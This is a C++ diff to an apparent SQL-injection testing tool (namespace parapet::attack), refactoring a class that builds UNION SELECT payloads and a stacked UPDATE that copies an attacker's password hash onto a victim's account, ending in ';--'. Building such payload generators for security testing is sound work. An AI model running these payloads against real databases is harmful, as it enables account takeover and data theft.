@@ -66,8 +66,7 @@ std::vector<ForgedRow::Columns> ForgedRow::rows() const {
     return all;
 }
 
-std::vector<std::string> ForgedRow::texts(std::vector<Break> const& breaks,
-                                          Spelling const& spelling) const {
+std::vector<std::string> ForgedRow::texts(Break const& with, Spelling const& spelling) const {
     std::vector<std::string> texts;
     if (table_.empty()) return texts;
     // The condition on the names goes into sub-queries, so that a tail may add its own WHERE.
@@ -76,23 +75,19 @@ std::vector<std::string> ForgedRow::texts(std::vector<Break> const& breaks,
                "=" + quoted(name) + ")";
     };
     std::string const from = " FROM " + one(attacker_) + " a JOIN " + one(victim_) + " v";
-    for (Break const& each : breaks) {
-        for (Columns const& row : rows())
-            texts.push_back(each.open + spelling.write(" UNION SELECT " + join(row) + from) +
-                            each.tail);
-    }
+    for (Columns const& row : rows())
+        texts.push_back(with.open + spelling.write(" UNION SELECT " + join(row) + from) +
+                        with.tail);
     return texts;
 }
 
-std::vector<std::string> ForgedRow::overwriting(std::vector<Break> const& breaks,
-                                                Spelling const& spelling) const {
-    std::vector<std::string> texts;
-    if (table_.empty()) return texts;
+std::optional<std::string> ForgedRow::overwriting(Break const& with,
+                                                  Spelling const& spelling) const {
+    if (table_.empty()) return std::nullopt;
     std::string const sql = ";UPDATE " + table_ + " SET " + hash_ + "=(SELECT " + hash_ + " FROM " +
                             table_ + " WHERE " + username_ + "=" + quoted(attacker_) + ") WHERE " +
                             username_ + "=" + quoted(victim_);
-    for (Break const& each : breaks) texts.push_back(each.open + spelling.write(sql) + ";--");
-    return texts;
+    return with.open + spelling.write(sql) + ";--";
 }
 
 }  // namespace parapet::attack
